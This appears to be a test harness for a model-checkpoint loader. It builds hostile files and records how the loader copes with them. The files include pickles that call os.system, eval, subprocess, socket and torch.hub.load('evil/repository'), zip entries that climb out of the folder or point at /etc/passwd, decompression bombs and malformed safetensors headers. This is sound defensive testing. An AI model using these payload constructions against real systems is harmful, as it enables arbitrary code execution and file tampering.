"""Checkpoint files made to do harm, or to be mistaken for good ones. Each builder writes one to the path it is given.

`python hostile_files.py FOLDER` writes them all beside a good one, loads each, and reports as JSON what happened:
whether a canary was touched, what an audit hook saw, and how each load ended.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import random
import resource
import struct
import sys
import tarfile
import time
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from safetensors.torch import save
from torch import Tensor, nn

import mair_cli
import mair_cli.networks.mair_unet  # loaded on first use otherwise, which the audit hook would notice
from mair_cli.errors import MairError
from mair_cli.networks import build_network, config_from_mapping
from mair_cli.weights.checkpoint import load_checkpoint, save_checkpoint

CONFIG: dict[str, object] = {"upscale": 2, "embed_dim": 4, "depths": [1], "d_state": 1, "scan_len": 4}
CANARY = "canary_was_touched"
State = dict[str, Tensor]
Builder = Callable[[Path], None]
HOSTILE: dict[str, Builder] = {}


def good_state() -> State:
    torch.manual_seed(0)
    return {name: value.clone() for name, value in build_network(CONFIG).state_dict().items()}


def hostile(builder: Builder) -> Builder:
    HOSTILE[builder.__name__] = builder
    return builder


# Pickles, instruction by instruction.


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value) if -(2**31) <= value < 2**31 else pickle.dumps(value, 2)[2:-1]


def numbers(*values: int) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def call(module: str, name: str, *arguments: bytes) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def tensor(
    count: int = 4, shape: tuple[int, ...] = (4,), strides: tuple[int, ...] = (1,), offset: int = 0, key: str = "0"
) -> bytes:
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + number(count) + b"tQ"
    rest = number(offset) + numbers(*shape) + numbers(*strides) + b"\x89" + call("collections", "OrderedDict")
    return call("torch._utils", "_rebuild_tensor_v2", storage, rest)


def mapping(**items: bytes) -> bytes:
    return b"}(" + b"".join(text(name) + value for name, value in items.items()) + b"u"


def program(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


Entries = list[tuple[str, bytes]]


def archive(
    path: Path,
    body: bytes,
    records: Entries | None = None,
    extra: Entries | None = None,
    method: int = zipfile.ZIP_STORED,
) -> None:
    members = [("a/data.pkl", program(body)), ("a/version", b"3\n"), ("a/byteorder", b"little")]
    members += [(f"a/data/{key}", data) for key, data in ([("0", bytes(16))] if records is None else records)]
    with zipfile.ZipFile(path, "w", method) as file:
        for name, data in members + (extra or []):
            file.writestr(zipfile.ZipInfo(name), data, compress_type=method)


def legacy(path: Path, body: bytes, machine: bytes = b"}", keys: bytes = b"]", raw: bytes = b"") -> None:
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    path.write_bytes(head + program(machine) + program(body) + program(keys) + raw)


def touch() -> bytes:
    return text(f"touch {CANARY}")


EXECUTING = {
    "os_system": call("os", "system", touch()),
    "posix_system": call("posix", "system", touch()),
    "eval": call("builtins", "eval", text(f"open('{CANARY}', 'w')")),
    "exec": call("builtins", "exec", text(f"open('{CANARY}', 'w')")),
    "python2_builtins": call("__builtin__", "eval", text(f"open('{CANARY}', 'w')")),
    "popen": call("subprocess", "Popen", b"(" + text("touch") + text(CANARY) + b"t"),
    "import_module": call("importlib", "import_module", text("canary_module")),
    "open_for_writing": call("builtins", "open", text(CANARY), text("w")),
    "getattr_of_allowed": call("builtins", "getattr", b"ctorch\nFloatStorage\n", text("__subclasses__")),
    "torch_hub": call("torch.hub", "load", text("evil/repository"), text("model")),
    "torch_load_inside": call("torch.serialization", "load", text("other.pth")),
    "numpy_load": call("numpy", "load", text("other.npy")),
    "pickle_inside": call("pickle", "loads", b"C\x10" + pickle.dumps(os.getcwd, 2)[:16]),
    "socket": call("socket", "create_connection", b"(" + text("127.0.0.1") + number(9) + b"t"),
    "unlink": call("os", "unlink", text("good.pth")),
    "code_object": call("types", "CodeType", number(0)),
    "dotted_attribute": b"\x80\x04"
    + text("torch")
    + text("serialization.os.system")
    + b"\x93"
    + b"("
    + touch()
    + b"tR",
    "stack_global": b"\x80\x04" + text("os") + text("system") + b"\x93" + b"(" + touch() + b"tR",
    "instance": b"(" + touch() + b"ios\nsystem\n",
    "object_instruction": b"(cos\nsystem\n" + touch() + b"o",
    "new_object": b"cos\nsystem\n" + b"(" + touch() + b"t\x81",
    "extension_registry": b"\x82\x01",
    "set_state": b"ctorch.nn\nModule\n)\x81" + mapping(forward=text("x")) + b"b",
    "import_only": b"ccanary_module\nanything\n",
    "storage_that_is_a_call": b"(" + text("storage") + b"cos\nsystem\n" + text("0") + text("cpu") + number(4) + b"tQ",
    "hooks_that_are_calls": call(
        "torch._utils",
        "_rebuild_tensor_v2",
        b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + number(4) + b"tQ",
        number(0) + numbers(4) + numbers(1) + b"\x89" + call("os", "system", touch()),
    ),
}
for label, body in EXECUTING.items():
    HOSTILE[f"executes_{label}"] = lambda path, body=body: archive(path, mapping(params=body))  # type: ignore[misc]
HOSTILE["executes_in_legacy"] = lambda path: legacy(path, EXECUTING["os_system"])
HOSTILE["executes_in_legacy_machine"] = lambda path: legacy(path, b"}", machine=EXECUTING["os_system"])
HOSTILE["executes_in_bare_pickle"] = lambda path: _write(path, program(EXECUTING["os_system"]))
HOSTILE["executes_after_the_end"] = lambda path: archive(path, b"}." + program(EXECUTING["os_system"])[2:-1])


@hostile
def list_that_holds_itself(path: Path) -> None:
    archive(path, b"]q\x00h\x00a")


@hostile
def mapping_that_holds_itself(path: Path) -> None:
    archive(path, b"}q\x00" + text("params") + b"h\x00s")


@hostile
def tuples_twenty_thousand_deep(path: Path) -> None:
    archive(path, b")" + b"\x85" * 20_000)


@hostile
def lists_twenty_thousand_deep(path: Path) -> None:
    archive(path, b"]" * 20_000 + b"a" * 19_999)


@hostile
def key_that_takes_for_ever_to_hash(path: Path) -> None:
    archive(path, b"})" + b"q\x01h\x01\x86" * 60 + text("x") + b"s")


@hostile
def key_that_is_wide_and_deep(path: Path) -> None:
    wider = b"".join(b"(" + bytes([0x68, level]) * 200 + b"tq" + bytes([level + 1]) for level in range(1, 6))
    archive(path, b"})q\x01" + wider + text("x") + b"s")


@hostile
def two_gibibytes_of_nothing(path: Path) -> None:
    archive(path, mapping(a=call("builtins", "bytearray", number(2**31 - 1))))


@hostile
def memo_with_two_billion_places(path: Path) -> None:
    archive(path, b"}r\xff\xff\xff\x7f")


@hostile
def number_longer_than_memory(path: Path) -> None:
    _write(path, b"\x80\x04\x8e" + struct.pack("<Q", 2**62))


@hostile
def string_longer_than_memory(path: Path) -> None:
    _write(path, b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b".")


@hostile
def endless_instructions(path: Path) -> None:
    archive(path, b"N0" * 1_000_000 + b"}")


@hostile
def description_of_twenty_megabytes(path: Path) -> None:
    archive(path, text("x" * 20_000_000))


@hostile
def stack_that_runs_empty(path: Path) -> None:
    archive(path, b"sss")


@hostile
def memo_that_was_never_set(path: Path) -> None:
    archive(path, b"h\x07")


@hostile
def string_longer_than_the_file(path: Path) -> None:
    archive(path, b"X\xff\xff\xff\x7fabc")


# Archives.


@hostile
def torchscript_program(path: Path) -> None:
    class Evil(nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            return x

    torch.jit.save(torch.jit.trace(Evil(), torch.ones(1)), str(path))


@hostile
def archive_that_climbs_out(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[(f"../../{CANARY}", b"x")])


@hostile
def archive_with_absolute_name(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[(f"/tmp/{CANARY}", b"x")])


@hostile
def archive_with_backslashes(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[(f"a\\..\\..\\{CANARY}", b"x")])


@hostile
def archive_with_two_descriptions(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[("a/data.pkl", program(EXECUTING["os_system"]))])


@hostile
def archive_with_descriptions_of_other_capitals(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[("a/DATA.PKL", program(EXECUTING["os_system"]))])


@hostile
def archive_with_two_top_folders(path: Path) -> None:
    archive(path, mapping(a=tensor()), extra=[("b/data.pkl", program(b"}"))])


@hostile
def bomb_of_numbers(path: Path) -> None:
    body = mapping(a=tensor(50_000_000, (50_000_000,)))
    archive(path, body, [("0", bytes(200_000_000))], method=zipfile.ZIP_DEFLATED)


@hostile
def bomb_of_description(path: Path) -> None:
    archive(path, b"N0" * 30_000_000 + b"}", method=zipfile.ZIP_DEFLATED)


@hostile
def archive_whose_members_overlap(path: Path) -> None:
    archive(path, mapping(**{f"p{i}": tensor(key=str(i)) for i in range(4)}), [(str(i), bytes(16)) for i in range(4)])
    data = bytearray(path.read_bytes())
    directory = struct.unpack("<I", data[-6:-2])[0]
    first = data.find(b"PK\x01\x02", directory)
    places = []
    while first != -1:
        places.append(first)
        first = data.find(b"PK\x01\x02", first + 4)
    for place in places[-3:]:  # all three point at one local header
        data[place + 42 : place + 46] = data[places[-4] + 42 : places[-4] + 46]
    path.write_bytes(data)


@hostile
def archive_of_something_else(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("word/document.xml", "<x/>")


@hostile
def archive_cut_short(path: Path) -> None:
    torch.save({"params": good_state()}, path)
    path.write_bytes(path.read_bytes()[:-1000])


@hostile
def archive_without_end(path: Path) -> None:
    torch.save({"params": good_state()}, path)
    path.write_bytes(path.read_bytes()[:2000])


@hostile
def archive_with_a_changed_byte(path: Path) -> None:
    torch.save({"params": good_state()}, path)
    data = bytearray(path.read_bytes())
    place = data.find(b"conv_first")
    data[place] ^= 0xFF
    path.write_bytes(data)


# Tensors that lie about themselves.

LIES = {
    "count_beyond_the_record": tensor(2**30, (2**30,)),
    "count_below_the_record": tensor(2, (2,)),
    "missing_record": tensor(key="7"),
    "record_with_a_path": tensor(key="../../../etc/passwd"),
    "shape_beyond_the_storage": tensor(4, (1_000_000,)),
    "huge_stride": tensor(4, (2,), (2**40,)),
    "huge_shape": tensor(4, (2**62, 4), (0, 1)),
    "overflowing_shape": tensor(4, (2**62, 2**62), (2**62, 1)),
    "negative_stride": tensor(4, (4,), (-1,)),
    "negative_shape": tensor(4, (-4,), (1,)),
    "negative_offset": tensor(4, (2,), (1,), -2),
    "offset_beyond": tensor(4, (1,), (1,), 10**6),
    "stride_zero": tensor(4, (4, 10), (1, 0)),
    "overlapping_rows": tensor(4, (2, 2), (1, 1)),
    "negative_count": tensor(-4),
    "more_strides_than_sides": tensor(4, (4,), (1, 1)),
    "too_many_sides": tensor(1, (1,) * 200, (1,) * 200),
}
for label, body in LIES.items():
    HOSTILE[f"tensor_with_{label}"] = lambda path, body=body: archive(path, mapping(a=body))  # type: ignore[misc]
HOSTILE["same_name_twice"] = lambda path: archive(path, b"}(" + (text("a") + tensor()) * 2 + b"u")
HOSTILE["legacy_with_huge_count"] = lambda path: legacy(
    path, mapping(a=tensor(2**31 - 1, (4,))), keys=b"](" + text("0") + b"e", raw=struct.pack("<q", 2**31 - 1)
)


@hostile
def legacy_cut_short(path: Path) -> None:
    torch.save({"params": good_state()}, path, _use_new_zipfile_serialization=False)
    path.write_bytes(path.read_bytes()[:-500])


@hostile
def small_file_of_thousands_of_large_tensors(path: Path) -> None:
    shared = torch.zeros(10_000)
    torch.save({f"p{index}": shared.view(100, 100) for index in range(2_000)}, path)


# States that are readable and wrong.


def changed(**changes: Tensor) -> Builder:
    def build(path: Path) -> None:
        torch.save({"params": good_state() | changes}, path)

    return build


GOOD = good_state()
BIAS = "conv_first.bias"
OTHER_STATES: dict[str, Tensor] = {
    "nan": torch.full_like(GOOD[BIAS], float("nan")),
    "infinity": torch.full_like(GOOD[BIAS], float("inf")),
    "infinity_in_float16": torch.full_like(GOOD[BIAS], float("-inf")).half(),
    "float64": GOOD[BIAS].double(),
    "float64_beyond_float32": torch.full_like(GOOD[BIAS], 1e300, dtype=torch.float64),
    "integers": torch.ones_like(GOOD[BIAS], dtype=torch.int64),
    "booleans": torch.ones_like(GOOD[BIAS], dtype=torch.bool),
    "complex_numbers": torch.ones_like(GOOD[BIAS], dtype=torch.complex64),
    "bytes": torch.ones_like(GOOD[BIAS], dtype=torch.uint8),
    "sparse_numbers": torch.ones(4).to_sparse(),
    "numbers_nowhere": torch.ones(4, device="meta"),
    "numbers_of_eight_bits": torch.ones(4).to(torch.float8_e4m3fn),
    "another_shape": torch.ones(5),
    "repeated_numbers": torch.ones(1).expand(4),
}
for label, value in OTHER_STATES.items():
    HOSTILE[f"state_with_{label}"] = changed(**{BIAS: value})
HOSTILE["state_with_surplus_parameter"] = changed(extra=torch.ones(2))
HOSTILE["state_with_both_prefixed_and_bare"] = changed(**{f"module.{BIAS}": torch.ones(4)})


def saved(content: object) -> Builder:
    return lambda path: torch.save(content, path)


HOSTILE |= {
    "state_without_one_parameter": saved({name: value for name, value in GOOD.items() if name != BIAS}),
    "state_of_nothing": saved({}),
    "state_with_numbers_for_names": saved(dict(enumerate(GOOD.values()))),
    "state_with_text_for_tensors": saved(dict.fromkeys(GOOD, "hello")),
    "list_of_tensors": saved(list(GOOD.values())),
    "bare_tensor": saved(torch.ones(3)),
    "whole_network": saved(build_network(CONFIG)),
    "array_of_objects": saved({"params": np.array([1, "a"], dtype=object)}),
    "mapping_of_another_kind": saved({"params": OrderedDict(GOOD), "optimizer": os.getcwd}),
}


# safetensors.


def safetensors_file(header: bytes, data: bytes = b"", length: int | None = None) -> Builder:
    return lambda path: _write(path, struct.pack("<Q", len(header) if length is None else length) + header + data)


def _write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def one(dtype: str = "F32", shape: str = "[4]", offsets: str = "[0,16]") -> str:
    return f'{{"dtype":"{dtype}","shape":{shape},"data_offsets":{offsets}}}'


def ours(state: State, metadata: dict[str, str]) -> Builder:
    return lambda path: _write(path, save(state, metadata))


HOSTILE |= {
    "header_longer_than_the_file": safetensors_file(b'{"a":1}', length=10_000),
    "header_of_exabytes": safetensors_file(b'{"a":1}', length=2**63 - 1),
    "header_that_is_no_json": safetensors_file(b"{hello}"),
    "header_that_is_no_text": safetensors_file(b'{"\xff\xfe":1}'),
    "header_nested_a_million_deep": safetensors_file(b'{"a":' + b"[" * 1_000_000),
    "header_with_a_name_twice": safetensors_file(f'{{"a":{one()},"a":{one()}}}'.encode(), bytes(16)),
    "header_with_overlapping_places": safetensors_file(f'{{"a":{one()},"b":{one()}}}'.encode(), bytes(16)),
    "header_with_places_beyond": safetensors_file(f'{{"a":{one(offsets="[0,1600]")}}}'.encode(), bytes(16)),
    "header_with_places_backwards": safetensors_file(f'{{"a":{one(offsets="[16,0]")}}}'.encode(), bytes(16)),
    "header_with_another_shape": safetensors_file(f'{{"a":{one(shape="[5]")}}}'.encode(), bytes(16)),
    "header_with_negative_shape": safetensors_file(f'{{"a":{one(shape="[-4]")}}}'.encode(), bytes(16)),
    "header_with_overflowing_shape": safetensors_file(f'{{"a":{one(shape=f"[{2**63},{2**63}]")}}}'.encode(), bytes(16)),
    "header_with_unknown_type": safetensors_file(f'{{"a":{one("F128")}}}'.encode(), bytes(16)),
    "header_with_metadata_that_is_no_text": safetensors_file(
        f'{{"__metadata__":{{"config":[1]}},"a":{one()}}}'.encode(), bytes(16)
    ),
    "header_with_a_gap": safetensors_file(f'{{"a":{one(offsets="[16,32]")}}}'.encode(), bytes(32)),
    "safetensors_with_bytes_after_the_end": lambda path: _write(path, save(GOOD) + b"PK\x03\x04"),
    "safetensors_with_nan": ours(GOOD | {BIAS: OTHER_STATES["nan"]}, {}),
    "safetensors_of_integers": ours(GOOD | {BIAS: OTHER_STATES["integers"]}, {}),
    "safetensors_of_float64": ours(GOOD | {BIAS: OTHER_STATES["float64"]}, {}),
    "settings_of_a_billion_blocks": ours(GOOD, {"config": json.dumps({**CONFIG, "depths": [10**9]})}),
    "settings_of_a_million_groups": ours(GOOD, {"config": json.dumps({**CONFIG, "depths": [1] * 10**6})}),
    "settings_of_huge_width": ours(GOOD, {"config": json.dumps({**CONFIG, "embed_dim": 10**9})}),
    "settings_unknown": ours(GOOD, {"config": json.dumps({**CONFIG, "__class__": "os"})}),
    "settings_that_are_no_json": ours(GOOD, {"config": "__import__('os').system('true')"}),
    "settings_nested_a_million_deep": ours(GOOD, {"config": "[" * 10**6}),
    "settings_of_the_wrong_type": ours(GOOD, {"config": json.dumps({**CONFIG, "depths": "6"})}),
    "settings_of_another_network": ours(GOOD, {"config": json.dumps({"dim": 8, "scan_len": 4})}),
}


def good_file(path: Path) -> None:
    config = config_from_mapping(CONFIG)
    save_checkpoint(path, GOOD, config, {"note": "good"})


@hostile
def safetensors_cut_short(path: Path) -> None:
    good_file(path)
    path.write_bytes(path.read_bytes()[:-100])


@hostile
def safetensors_with_a_changed_number(path: Path) -> None:
    good_file(path)
    data = bytearray(path.read_bytes())
    data[-3] ^= 1
    path.write_bytes(data)


@hostile
def safetensors_with_a_changed_setting(path: Path) -> None:
    good_file(path)
    data = path.read_bytes()
    changed_data = data.replace(b'\\"scan_len\\": 4', b'\\"scan_len\\": 8')
    assert changed_data != data
    path.write_bytes(changed_data)


# No checkpoints at all.


@hostile
def nothing_at_all(path: Path) -> None:
    path.touch()


@hostile
def random_bytes(path: Path) -> None:
    path.write_bytes(random.Random(0).randbytes(100_000))


@hostile
def web_page(path: Path) -> None:
    path.write_text("<!DOCTYPE html><html><title>Quota exceeded</title></html>")


@hostile
def zipped_pickle(path: Path) -> None:
    path.write_bytes(gzip.compress(program(EXECUTING["os_system"])))


@hostile
def tape_archive(path: Path) -> None:
    with tarfile.open(path, "w") as tape:
        for name in ("storages", "tensors", "pickle", f"../{CANARY}"):
            info = tarfile.TarInfo(name)
            info.size = 5
            tape.addfile(info, io.BytesIO(b"hello"))


@hostile
def folder(path: Path) -> None:
    path.mkdir()


@hostile
def pipe_without_end(path: Path) -> None:
    os.mkfifo(path)


@hostile
def device_without_end(path: Path) -> None:
    path.symlink_to("/dev/zero")


@hostile
def link_to_itself(path: Path) -> None:
    path.symlink_to(path)


WATCHED = ("os.system", "os.exec", "os.posix_spawn", "os.fork", "subprocess", "socket", "exec", "compile", "os.remove")


def outcomes(folder: Path) -> dict[str, object]:
    """Build all, load all, and tell what happened."""
    files = {}
    for name, build in HOSTILE.items():
        files[name] = folder / f"{name}.pth"
        build(files[name])
    good = folder / "good.pth"
    torch.save({"params": GOOD}, good)
    (folder / "canary_module.py").write_text(f"open({CANARY!r}, 'w')")
    sys.path.insert(0, str(folder))
    os.chdir(folder)
    load_checkpoint(good, CONFIG)  # whatever is imported on first use is imported now
    noticed: list[str] = []
    trusted = (str(Path(os.__file__).parent), str(Path(mair_cli.__file__).parent))

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        writes = event == "open" and isinstance(arguments[1], str) and arguments[1].strip("rbtU") != ""
        foreign = event == "import" and str(arguments[0]).partition(".")[0] in ("canary_module", "subprocess", "socket")
        # Modules of Python and ours may still be imported on first use: their code is known.
        known = event == "exec" and getattr(arguments[0], "co_filename", "").startswith(trusted)
        if (event.startswith(WATCHED) and not known) or writes or foreign:
            noticed.append(f"{event} {str(arguments)[:100]}")

    sys.addaudithook(watch)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    ends, seconds = {}, {}
    for name, path in files.items():
        began = time.perf_counter()
        # Settings that are given count, whatever the file says: those are only asked for where none are given.
        for config in (None,) if name.startswith("settings") else (CONFIG, None):
            try:
                load_checkpoint(path, config, None if config else 4)
                ends[name] = "LOADED"
            except MairError as error:
                ends[name] = str(error)
            except BaseException as error:  # noqa: BLE001  (this is what the test is about)
                ends[name] = f"TRACEBACK {type(error).__name__}: {error}"
            if ends[name].startswith(("LOADED", "TRACEBACK")):
                break
        seconds[name] = time.perf_counter() - began
    touched = [str(path) for place in (folder, folder.parent) for path in place.rglob(CANARY)]
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    return {"mebibytes": grown / 1024, "ends": ends, "seconds": seconds, "noticed": noticed, "touched": touched}


if __name__ == "__main__":
    print(json.dumps(outcomes(Path(sys.argv[1]))))  # noqa: T201  (its answer to the test that runs it)
